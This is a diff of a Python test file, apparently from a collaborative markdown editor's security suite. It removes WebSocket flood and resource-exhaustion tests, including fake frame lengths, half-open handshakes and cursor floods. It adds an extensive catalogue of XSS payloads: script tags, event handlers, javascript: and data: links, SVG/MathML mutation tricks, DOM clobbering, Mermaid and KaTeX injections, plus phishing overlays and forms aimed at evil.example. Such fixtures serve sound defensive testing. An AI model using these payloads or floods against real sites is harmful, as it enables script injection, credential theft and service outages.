@@ -1,225 +1,137 @@
-"""Attacks on the socket that are not a matter of one frame's bytes: floods, lies about lengths, hoarding, slow updates."""
+"""Markdown that tries to run, to cover, to lead away or to spy. Each leaves `window.__pwned` or opens a dialog if it works."""
 
-import asyncio
-import json
-from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
-from contextlib import asynccontextmanager, suppress
-from dataclasses import dataclass
-from itertools import islice
+RUN = "window.__pwned=1;alert(1)"
+AWAY = "https://evil.example/steal"
 
-from support.rawsocket import BINARY, CONTINUATION, PING, RawSocket, frame, upgrade_request
-from unit.yjs.build import Section, text, uint, update
+SCRIPTS = {
+    "script": f"<script>{RUN}</script>",
+    "script from elsewhere": f"<script src={AWAY}.js></script>",
+    "script as a module": f'<script type=module>import "{AWAY}.js"</script>',
+    "script in a paragraph": f"hello <script>{RUN}</script> world",
+    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "script in upper case": f"<SCRIPT>{RUN}</SCRIPT>",
+    "script with an entity": f"&lt;script&gt;{RUN}&lt;/script&gt; <script>{RUN}</script>",
+    "script in a table": f"| a |\n| - |\n| <script>{RUN}</script> <img src=x onerror={RUN}> |",
+    "script in a list": f"- [ ] <img src=x onerror={RUN}>\n- <script>{RUN}</script>",
+    "script in a quotation": f"> <img src=x onerror={RUN}>\n> <script>{RUN}</script>",
+    "script in a heading": f"### <img src=x onerror={RUN}>",
+    "script in a footnote": f"x[^a]\n\n[^a]: <img src=x onerror={RUN}> [y](javascript:{RUN})",
+    "script in a footnote's name": f'x[^"><img/src/onerror={RUN}>]\n\n[^"><img/src/onerror={RUN}>]: y',
+    "script in code": f"```html\n<script>{RUN}</script>\n<img src=x onerror={RUN}>\n```",
+    "script in a language": f'```"><img/src=x/onerror={RUN}>\nx\n```',
+    "script in a picture's text": f'![" onerror="{RUN}](x.png)',
+    "script in a link's title": f'[x](#unclosed "\\" onmouseover=\\"{RUN}")',
+    "script in a comment": f"<!--><img src=x onerror={RUN}>-->",
+}
 
-STEP1_OF_ALL = b"\0\0\1\0"
-CLIENT = 4_000_000_000
+HANDLERS = {
+    "error": f"<img src=x onerror={RUN}>",
+    "error, odd quoting": f'<img src="x"onerror="{RUN}"/onload={RUN}>',
+    "error with a slash": f"<img/src=x/onerror={RUN}>",
+    "error after a line end": f"<img\nsrc=x\nonerror={RUN}>",
+    "error of a picture's source": f"<picture><source srcset=x onerror={RUN}><img src=x onerror={RUN}></picture>",
+    "error of a video": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
+    "load of a body": f"<body onload={RUN}>",
+    "load of an svg": f"<svg onload={RUN}></svg>",
+    "load of a frame": f'<iframe onload={RUN} src="about:blank"></iframe>',
+    "toggle": f"<details open ontoggle={RUN}><summary>x</summary></details>",
+    "focus": f"<input autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}></textarea>",
+    "focus of anything": f"<div tabindex=0 autofocus onfocus={RUN} contenteditable>x</div>",
+    "animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
+    "transition": f"<b style=transition:all onclick={RUN} onpointerenter={RUN} onmouseover={RUN}>x</b>",
+    "scroll": f"<div style=overflow:auto;height:1px onscroll={RUN}><br><br><br></div>",
+    "popover": f"<button popovertarget=x onclick={RUN}>y</button><div popover id=x onbeforetoggle={RUN}>z</div>",
+    "custom element": f"<x-evil is=script onclick={RUN} onfocus={RUN} tabindex=0>x</x-evil>",
+    "marquee": f"<marquee onstart={RUN}>x</marquee>",
+}
 
+LINKS = {
+    "link": f"[x](javascript:{RUN})",
+    "link in mixed case": f"[x](JaVaScRiPt:{RUN})",
+    "link with entities": f"[x](&#106;avascript:{RUN})",
+    "link with hex entities": f"[x](&#x6A;&#x61;vascript&colon;{RUN})",
+    "link with a tab": f'<a href="java&#9;script:{RUN}">x</a>',
+    "link with a line end": f'<a href="java&NewLine;script:{RUN}">x</a>',
+    "link after a control character": f'<a href="&#1;javascript:{RUN}">x</a>',
+    "link after spaces": f'<a href="  javascript:{RUN}">x</a>',
+    "link with a comment": f"[x](javascript://%0a{RUN})",
+    "link in angles": f"<javascript:{RUN}>",
+    "link by reference": f"[x][bad]\n\n[bad]: javascript:{RUN}",
+    "link of a picture": f"[![x](y.png)](javascript:{RUN})",
+    "picture": f"![x](javascript:{RUN})",
+    "vbscript": "[x](vbscript:msgbox(1))",
+    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "data with svg": f"<a href=\"data:image/svg+xml,<svg onload='{RUN}'>\">x</a>",
+    "blob": "[x](blob:https://evil.example/1)",
+    "file": "[x](file:///etc/passwd)",
+    "target": f'<a href="javascript:{RUN}" target=_blank>x</a> <a href="javascript:{RUN}" target=_top>x</a>',
+    "area": f'<map name=m><area shape=default href="javascript:{RUN}"></map><img usemap=#m src=x width=9 height=9>',
+    "ping": f'<a href="#unclosed" ping="{AWAY}">x</a>',
+    "download": f'<a download href="javascript:{RUN}">x</a>',
+}
 
-@dataclass(frozen=True, slots=True)
-class Ground:
-    """Where an attack takes place: a document that `token` may write to. `scale` 1 is the full attack."""
+FRAMES = {
+    "svg": f'<svg><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
+    "svg animated": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
+    "svg with a link that changes": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=9>x</text></a></svg>',
+    "svg with html": f'<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></iframe></foreignObject></svg>',
+    "svg that is used": f"<svg><use href=\"data:image/svg+xml,<svg id='x'><script>{RUN}</script></svg>#x\"/></svg>",
+    "math element": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
+    "math link": f'<math><mtext href="javascript:{RUN}">x</mtext><maction actiontype="statusline#{AWAY}">x</maction></math>',
+    "frame": f"<iframe src={AWAY}></iframe>",
+    "frame with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    "frame with a script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
+    "object": f'<object data={AWAY}></object><embed src={AWAY}><object data="javascript:{RUN}"></object>',
+    "form": f"<form action={AWAY}><input name=password type=password><button>Log in</button></form>",
+    "form by script": f'<form action="javascript:{RUN}"><input type=submit value=x></form>',
+    "button with an action": f'<button formaction="javascript:{RUN}">x</button>',
+    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
+    "base": "<base href=https://evil.example/>",
+    "link to a style": f"<link rel=stylesheet href={AWAY}.css><link rel=preload as=script href={AWAY}.js>",
+    "prefetch": f"<link rel=prefetch href={AWAY}><link rel=dns-prefetch href=//evil.example>",
+    "style": "<style>body{display:none!important}</style>",
+    "style from elsewhere": f"<style>@import url({AWAY}.css); *{{background:url({AWAY})}}</style>",
+    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Your session ended. Password?</div>",
+    "overlay by class": '<div class="dialog-backdrop menu toast drop-overlay">cover</div>',
+    "background": f"<table background={AWAY}><tr><td background={AWAY}>x</td></tr></table>",
+    "clobbering": "<a id=body></a><img name=cookie><a id=root>x</a><form id=fetch></form><a id=defaultView href=x>x</a>",
+    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
+    "mutation by template": f"<template><img src=x onerror={RUN}></template>",
+    "mutation by nesting": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    "mutation by cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
+    "dialog": "<dialog open>cover</dialog>",
+    "forged place of a task": f'<span class="md-task-place" data-task-line=0 data-task-done=true onclick={RUN}>x</span>',
+}
 
-    url: str
-    document: str
-    token: str
-    scale: float
+EXTRAS = {
+    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$ and $\\url{{javascript:{RUN}}}$",
+    "formula with html": f"$\\htmlData{{x=<img src=x onerror={RUN}>}}{{y}}$ $\\htmlStyle{{position:fixed}}{{z}}$",
+    "formula with a picture": f"$\\includegraphics{{{AWAY}.png}}$",
+    "formula that is html": f"$<img src=x onerror={RUN}>$\n\n$$\n<script>{RUN}</script>\n$$",
+    "formula without end": "$\\def\\x{\\x\\x}\\x$ $\\rule{99999em}{99999em}$",
+    "diagram with a link": f'```mermaid\ngraph LR\n  A-->B\n  click A href "javascript:{RUN}"\n  click B call alert(1)\n```',
+    "diagram with html": f'```mermaid\ngraph LR\n  A["<img src=x onerror={RUN}>"] --> B["<script>{RUN}</script>"]\n```',
+    "diagram that sets itself free": (
+        f'```mermaid\n%%{{init: {{"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url({AWAY})"}}}}%%\n'
+        f'graph LR\n  A["<img src=x onerror={RUN}>"]\n```'
+    ),
+    "diagram with a mistake": f"```mermaid\ngraph LR\n  A[<img src=x onerror={RUN}> -->\n```",
+    "wiki link": f"[[javascript:{RUN}]] [[x|<img src=x onerror={RUN}>]]",
+    "a diagram that is one": "```mermaid\ngraph LR\n  A --> B\n```",
+    "a formula that is one": "$e = mc^2$",
+}
 
-    def times(self, number: int) -> int:
-        """`number`, scaled."""
-        return max(1, int(number * self.scale))
+FRONT_MATTER = f"---\ntitle: <img src=x onerror={RUN}>\n'<script>{RUN}</script>': [x](javascript:{RUN})\n---\n\n"
+UNCLOSED = f"\n\n## unclosed\n\n<div><table><svg><style><img src=x onerror={RUN}"
 
-    @asynccontextmanager
-    async def socket(self) -> AsyncIterator[RawSocket]:
-        """A socket with a seat in the room."""
-        made = await RawSocket.open(self.url, self.document, self.token)
-        try:
-            assert (await made.next_frame()) is not None
-            yield made
-        finally:
-            made.abort()
-
-
-Attack = Callable[[Ground], Awaitable[None]]
-
-
-def message(update_bytes: bytes) -> bytes:
-    """A frame with an update in it."""
-    return frame(b"\0\2" + uint(len(update_bytes)) + update_bytes)
-
-
-async def _pour(socket: RawSocket, parts: Iterator[bytes], seconds: float = 10) -> int:
-    """Send parts until they or the server's patience end; the close code, 0 if there is none."""
-    reading = asyncio.create_task(socket.close_code(60))
-    with suppress(ConnectionError):
-        for part in parts:
-            if reading.done():
-                break
-            await socket.send(part)
-    with suppress(TimeoutError):
-        async with asyncio.timeout(seconds):
-            return await asyncio.shield(reading)
-    reading.cancel()
-    return 0
-
-
-async def tiny_fragments(ground: Ground) -> None:
-    """Empty fragments without end."""
-    async with ground.socket() as socket:
-        await socket.send(frame(b"\0", BINARY, fin=False))
-        many = frame(b"", CONTINUATION, fin=False) * 1000
-        assert await _pour(socket, (many for _ in range(ground.times(200)))) == 4429
-
-
-async def fragments_after_the_farewell(ground: Ground) -> None:
-    """A message that grows on and on, past the close frame."""
-    async with ground.socket() as socket:
-        await socket.send(frame(b"\0", BINARY, fin=False))
-        many = frame(b"x" * 500_000, CONTINUATION, fin=False)
-        assert await _pour(socket, (many for _ in range(ground.times(400)))) in {1009, 4429, 1006}
-
-
-async def huge_lengths(ground: Ground) -> None:
-    """Frames that say they are larger than they are."""
-    for length in (2**20 * 12, 2**31, 2**40, 2**62):
-        async with ground.socket() as socket:
-            await socket.send(frame(b"\0\2", length=length))
-            assert await socket.close_code() == 1009
-    async with ground.socket() as socket:
-        await socket.send(frame(b"\0\2", length=2**63))
-        assert await socket.close_code() == 1002
-    waiting = []
-    for _ in range(ground.times(100)):  # and those that are just allowed, and never come
-        socket = await RawSocket.open(ground.url, ground.document, ground.token)
-        await socket.send(frame(b"\0\2", length=5_000_000))
-        waiting.append(socket)
-    for socket in waiting:
-        socket.abort()
-
-
-async def pings(ground: Ground) -> None:
-    """More pings than anybody needs."""
-    async with ground.socket() as socket:
-        many = frame(b"x" * 125, PING) * 1000
-        assert await _pour(socket, (many for _ in range(ground.times(200)))) == 4429
-
-
-async def half_open_handshakes(ground: Ground) -> None:
-    """Connections that never finish their request, and requests with bytes behind them."""
-    request = upgrade_request(ground.document, ground.token)
-    sockets = []
-    for number in range(ground.times(400)):
-        socket = await RawSocket.connect(ground.url)
-        await socket.send(request[: number % len(request)])
-        sockets.append(socket)
-    for socket in sockets:
-        socket.abort()
-    for extra in (b"\0" * 2000, frame(b"\xff" * 1000), frame(STEP1_OF_ALL) * 600, frame(b"", masked=False)):
-        socket = await RawSocket.connect(ground.url)
-        await socket.send(request + extra)
-        assert (await socket.head()).startswith(b"HTTP/1.1 101")
-        socket.abort()
-    for broken in (request.replace(b"13", b"12"), request.replace(b"Sec-WebSocket-Key", b"X"), b"\0" * 5000):
-        socket = await RawSocket.connect(ground.url)
-        await socket.send(broken)
-        assert b" 400 " in (await socket.head())[:20]
-        socket.abort()
-
-
-def awareness(states: list[tuple[int, int, bytes]]) -> bytes:
-    """An awareness frame with (client id, clock, JSON)."""
-    body = uint(len(states)) + b"".join(uint(c) + uint(k) + uint(len(raw)) + raw for c, k, raw in states)
-    return frame(b"\1" + uint(len(body)) + body)
-
-
-async def crowds_of_cursors(ground: Ground) -> None:
-    """Ten thousand people in one message, and one by one."""
-    states = [(number, 1, b'{"user":{"name":"x"}}') for number in range(ground.times(10_000))]
-    async with ground.socket() as socket:
-        await socket.send(awareness(states))
-        assert await socket.close_code() == 4400
-    async with ground.socket() as socket:
-        assert await _pour(socket, (awareness([state]) for state in states)) == 4400
-
-
-async def large_cursors(ground: Ground) -> None:
-    """Cursors with books in them, changed as fast as can be."""
-    async with ground.socket() as socket:
-        raw = json.dumps({"cursor": "x" * 3000}).encode()
-        code = await _pour(socket, (awareness([(7, number, raw)]) for number in range(1, ground.times(8000))), 2)
-        assert code in {4400, 4429} or ground.scale < 1
-
-
-async def questions(ground: Ground) -> None:
-    """The whole document, who is here, and is it saved, again and again."""
-    for ask in (frame(STEP1_OF_ALL), frame(b"\3"), frame(b"\x66" + b"m" * 64)):
-        async with ground.socket() as socket:
-            many = ask * 500
-            assert await _pour(socket, (many for _ in range(ground.times(40))), 2) in {4429, 1006, 0}
-
-
-def _section(clock: int, structs: list[bytes]) -> Section:
-    return CLIENT, clock, structs
-
-
-async def crowd_in_one_place(ground: Ground) -> None:
-    """Thousands of letters that all want to stand at the very beginning, in one update of 48 kB."""
-    count = ground.times(8000)
-    async with ground.socket() as socket:
-        await socket.send(message(update(_section(0, [text("x") for _ in range(count)]))))
-        assert await socket.answers(b"crowd", 60)
-
-
-async def letters_from_end_to_start(ground: Ground) -> None:
-    """Single letters put into a text of megabytes, each before the last: the slowest places there are for yrs."""
-    length = ground.times(4_900_000)
-    async with ground.socket() as socket:
-        await socket.send(message(update(_section(0, [text("y" * length)]))))
-        assert await socket.answers(b"long", 60)
-        places = range(length - 2, 0, -max(1, length // ground.times(2000)))
-        letters = (
-            message(update(_section(length + number, [text("z", (CLIENT, at), (CLIENT, at + 1))])))
-            for number, at in enumerate(places)
-        )
-        while batch := b"".join(islice(letters, 200)):
-            await socket.send(batch)
-        assert await socket.answers(b"letters", 60)
-
-
-async def appends(ground: Ground) -> None:
-    """Letter after letter, as fast as the server lets one."""
-    count = ground.times(50_000)
-    sent = 0
-    while sent < count:
-        async with ground.socket() as socket:
-            start = sent
-            batch = min(5_000, count - start)
-            frames = [
-                message(
-                    update((CLIENT + 1, start + n, [text("a", (CLIENT + 1, start + n - 1) if start + n else None)]))
-                )
-                for n in range(batch)
-            ]
-            await socket.send(b"".join(frames))
-            assert await socket.answers(b"appended", 60)
-            sent += batch
-
-
-async def hoarding(ground: Ground) -> None:
-    """Large messages while the document is busy with a slow one."""
-    async with ground.socket() as socket:
-        await socket.send(message(update((CLIENT + 2, 0, [text("x") for _ in range(ground.times(8000))]))))
-        large = frame(b"\0\2" + uint(3_000_000) + bytes(3_000_000))
-        assert await _pour(socket, (large for _ in range(ground.times(100)))) in {4400, 4429, 1006}
-
-
-CONNECTION_ATTACKS: tuple[Attack, ...] = (
-    tiny_fragments,
-    fragments_after_the_farewell,
-    huge_lengths,
-    pings,
-    half_open_handshakes,
-    crowds_of_cursors,
-    large_cursors,
-    questions,
-    hoarding,
-)
-SLOW_UPDATES: tuple[Attack, ...] = (crowd_in_one_place, letters_from_end_to_start, appends)
+DOCUMENTS = {
+    name: FRONT_MATTER + "\n\n".join(f"## {title}\n\n{text}" for title, text in entries.items()) + UNCLOSED
+    for name, entries in {
+        "scripts": SCRIPTS,
+        "handlers": HANDLERS,
+        "links": LINKS,
+        "frames": FRAMES,
+        "extras": EXTRAS,
+    }.items()
+}
+HEADINGS = {"scripts": SCRIPTS, "handlers": HANDLERS, "links": LINKS, "frames": FRAMES, "extras": EXTRAS}
